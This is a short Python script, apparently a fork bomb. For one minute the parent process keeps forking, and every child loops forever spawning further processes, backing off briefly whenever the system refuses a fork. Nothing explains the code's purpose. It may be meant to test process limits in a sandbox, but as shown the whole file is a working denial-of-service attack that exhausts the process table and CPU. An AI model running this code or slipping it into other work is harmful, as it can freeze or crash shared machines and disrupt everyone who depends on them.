import os
import time

started = time.time()
while time.time() - started < 60:
    try:
        if os.fork() == 0:
            while True:
                try:
                    os.fork()
                except OSError:
                    time.sleep(0.01)
    except OSError:
        time.sleep(0.05)
